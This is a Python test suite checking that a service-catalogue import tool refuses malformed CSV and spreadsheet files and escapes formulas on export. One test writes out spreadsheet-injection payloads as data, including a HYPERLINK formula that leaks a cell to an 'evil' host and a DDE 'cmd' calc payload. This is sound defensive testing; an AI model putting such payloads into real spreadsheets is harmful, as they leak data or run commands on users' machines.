"""Bad tables, one after the other, against one hall (issue 3, bad inputs): each is refused with the place of what is wrong, and
nothing of it is taken in: the good rows before and after the bad one leave no trace. What goes out never begins a
formula. The hall is the demonstration hall, its tables of items are compared byte by byte before and after."""

import hashlib
import os
import re
import sqlite3
import sys
import tempfile
import unittest
import zipfile

from commands_test import ROOT, demonstration_hall, run

MARRIAGE = "412011013000"
OTHER = "412011017000"
SITUATION = "item,question_code,parent,question,question_en,option_code,option,option_en,papers,state,source\n"
PAPER = "item,position,name,kind,copies,necessity,provider,on_site,state\n"
GOOD_PAPER = f"{OTHER},9,好的一行,original,1,required,applicant,0,demonstration\n"


def situation(code, parent, option, papers=""):
    return f"{MARRIAGE},{code},{parent},问？,,{option},选,,{papers},demonstration,x\n{MARRIAGE},{code},{parent},问？,,{option}n,不选,,,demonstration,x\n"


class BadInputTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.own = tempfile.TemporaryDirectory()
        cls.folder = cls.own.name
        cls.data = os.path.join(cls.folder, "hall")
        demonstration_hall(cls.data)

    @classmethod
    def tearDownClass(cls):
        cls.own.cleanup()

    # --- the hall and its tables ---

    def digest(self):
        """Of every row that says anything of items and agencies, their versions and the journal."""
        sum_ = hashlib.sha256()
        with sqlite3.connect(os.path.join(self.data, "onewindow.db")) as db:
            tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
            chosen = [t for t in tables if t.startswith(("item", "agency", "catalogue", "directory", "journal", "code", "element"))]
            self.assertIn("item_version", chosen)
            for table in chosen:
                for row in db.execute(f"SELECT * FROM {table} ORDER BY 1, 2, 3"):
                    sum_.update(repr((table, row)).encode())
        return sum_.hexdigest()

    def write(self, name, content):
        path = os.path.join(self.folder, name)
        with open(path, "wb") as f:
            f.write(content if isinstance(content, bytes) else content.encode())
        return path

    def refused(self, kind, path, *places):
        before = self.digest()
        done = run("import", kind, path, "--data", self.data)
        self.assertEqual(done.returncode, 1, f"{path}: {done.stdout}")
        self.assertIn("nothing was imported", done.stderr)
        self.assertNotIn("Sanitizer", done.stderr)
        for place in places:
            self.assertRegex(done.stderr, place)
        self.assertEqual(self.digest(), before, path)

    def taken(self, kind, path):
        done = run("import", kind, path, "--data", self.data)
        self.assertEqual(done.returncode, 0, done.stderr)

    def names(self, code=OTHER):
        with sqlite3.connect(os.path.join(self.data, "onewindow.db")) as db:
            return [r[0] for r in db.execute("SELECT p.name FROM item_paper p JOIN item i ON i.id = p.item_id WHERE i.code = ? "
                                             "ORDER BY p.position", (code,))]

    # --- what is wrong with them ---

    def test_situations_that_go_round_hang_nowhere_or_repeat(self):
        round_ = SITUATION + situation("q1", "b", "a") + situation("q2", "a", "b")
        self.refused("item_situations", self.write("round.csv", round_), r"line 2\b", "q1", "绕|圈|循环")
        dangling = SITUATION + situation("q1", "", "a") + situation("q2", "gone", "b")
        self.refused("item_situations", self.write("dangling.csv", dangling), r"line 2\b", r"situations\[2\]\.parent", "gone")
        paper = SITUATION + situation("q1", "", "a", "199:required")
        self.refused("item_situations", self.write("paper.csv", paper), r"line 2\b", "199")
        twice = SITUATION + situation("q1", "", "a") + situation("q2", "", "a")
        self.refused("item_situations", self.write("twice.csv", twice), r"line 2\b", "a")
        good = f"{OTHER},q9,,问？,,x1,选,,,demonstration,x\n{OTHER},q9,,问？,,x2,不选,,,demonstration,x\n"
        self.refused("item_situations", self.write("mixed.csv", SITUATION + good + situation("q1", "gone", "a")), r"line 4\b")

    def test_codes_that_repeat_and_check_digits_that_are_wrong(self):
        with open(os.path.join(ROOT, "data", "wolong", "items.csv"), encoding="utf-8") as f:
            header, first, second = f.readline(), f.readline(), f.readline()
        changed = second.replace(",5,working,0", ",7,working,0", 1) if ",5,working,0" in second else second
        self.refused("items", self.write("double.csv", header + changed + first + first), r"line 4, column code", "第 3 行")
        wrong = first.replace("11411303000001011D", "11411303000001012D", 1)
        self.refused("items", self.write("digit.csv", header + changed + wrong), r"line 3, column impl_code")
        agencies = "name,name_en,uscc,phone,source,state\n新部门,,11370800MB28559184,,x,demonstration\n另一个,,11370800MB28559185,,x,demonstration\n"
        self.refused("agencies", self.write("uscc.csv", agencies), r"line 3, column uscc")
        handlings = ("item,code,kind,name,is_immediate,legal_days,legal_unit,promised_days,promised_unit,state\n"
                     f"{MARRIAGE},{'1' * 33},new,新办,0,1,working,1,working,demonstration\n")
        self.refused("item_handlings", self.write("handling.csv", handlings), r"line 2\b", r"handlings\[1\]\.code")

    def test_ten_megabytes_of_law(self):
        header = "item,kind,law,law_en,document_no,article,wording,state,source\n"
        good = f"{OTHER},law,好的一行,,,第一条,,demonstration,x\n"
        law = "法" * (10 * 1024 * 1024 // 3 + 1)
        self.refused("item_bases", self.write("law.csv", header + good + f"{MARRIAGE},law,民法典,,,第一条,{law},demonstration,x\n"),
                     r"line 3\b.*wording|line 3, column")

    def test_spreadsheets_that_are_broken(self):
        for name, content in (("empty.xlsx", b""), ("no-zip.xlsx", b"PK\x03\x04 but no archive at all"),
                              ("noise.xlsx", os.urandom(4096))):
            self.refused("item_papers", self.write(name, content))
        whole = os.path.join(self.folder, "papers.xlsx")
        self.assertEqual(run("export", "item_papers", whole, "--data", self.data).returncode, 0)
        with open(whole, "rb") as f:
            content = f.read()
        self.refused("item_papers", self.write("half.xlsx", content[: len(content) // 2]))
        cut = os.path.join(self.folder, "cut.xlsx")
        self.without_end(whole, cut)
        self.refused("item_papers", cut)
        no_book = os.path.join(self.folder, "no-book.xlsx")
        with zipfile.ZipFile(no_book, "w") as z:
            z.writestr("readme.txt", "no workbook")
        self.refused("item_papers", no_book)

    @staticmethod
    def without_end(whole, cut):
        """The sheet's rows end in the midst of one."""
        with zipfile.ZipFile(whole) as old, zipfile.ZipFile(cut, "w", zipfile.ZIP_DEFLATED) as new:
            for part in old.namelist():
                text = old.read(part)
                new.writestr(part, text[: len(text) * 2 // 3] if part == "xl/worksheets/sheet1.xml" else text)

    def test_formulas_in_a_sheet(self):
        whole, bad = os.path.join(self.folder, "papers2.xlsx"), os.path.join(self.folder, "formula.xlsx")
        self.assertEqual(run("export", "item_papers", whole, "--data", self.data).returncode, 0)
        with zipfile.ZipFile(whole) as old, zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as new:
            for part in old.namelist():
                text = old.read(part)
                if part == "xl/worksheets/sheet1.xml":
                    text, n = re.subn(rb'<c r="C4"[^>]*>.*?</c>', b'<c r="C4"><f>HYPERLINK("http://x")</f><v>x</v></c>', text)
                    self.assertEqual(n, 1)
                new.writestr(part, text)
        self.refused("item_papers", bad, r"line 4, column C \(name\): .*公式")

    def test_encodings(self):
        text = PAPER + GOOD_PAPER
        mixed = text.encode("utf-8") + f"{OTHER},10,另一行,original,1,required,applicant,0,demonstration\n".encode("gbk")
        self.refused("item_papers", self.write("mixed-encodings.csv", mixed), r"line 3\b")
        half = text.encode("gbk")[:-30] + b"\x81"
        self.refused("item_papers", self.write("half-gbk.csv", half))
        before = self.names()
        self.taken("item_papers", self.write("gbk.csv", text.encode("gbk")))
        self.assertEqual(self.names(), before + ["好的一行"])
        self.taken("item_papers", self.write("utf16.csv", (PAPER + GOOD_PAPER.replace("好的", "更好的")).encode("utf-16")))
        self.assertEqual(self.names(), before + ["更好的一行"])

    def test_what_goes_out_is_never_a_formula(self):
        hostile = ['=HYPERLINK("http://evil/?x="&A1)', "@SUM(A1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1"]
        rows = "".join(f'{MARRIAGE},{20 + i},"{h.replace(chr(34), chr(34) * 2)}",original,1,required,applicant,0,demonstration\n'
                       for i, h in enumerate(hostile))
        self.taken("item_papers", self.write("hostile.csv", PAPER + rows))
        said = self.names(MARRIAGE)[-len(hostile):]
        csv_, xlsx = os.path.join(self.folder, "out.csv"), os.path.join(self.folder, "out.xlsx")
        for path in (csv_, xlsx):
            self.assertEqual(run("export", "item_papers", path, "--data", self.data).returncode, 0)
        with open(csv_, encoding="utf-8-sig") as f:
            lines = [line for line in f if any(h[:8].strip() in line for h in hostile)]
        self.assertEqual(len(lines), len(hostile))
        for line in lines:
            self.assertRegex(line, r"^[0-9]+,[0-9]+,\"?'")
        with zipfile.ZipFile(xlsx) as z:
            sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
            texts = sheets + b"".join(z.read(n) for n in z.namelist() if n == "xl/sharedStrings.xml")
        self.assertNotIn(b"<f>", sheets)
        self.assertIn(b"HYPERLINK", texts)
        for path in (csv_, xlsx):  # and it comes back as it was
            self.taken("item_papers", path)
            self.assertEqual(self.names(MARRIAGE)[-len(hostile):], said)


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0], *(sys.argv[1:] or ["-v"])])
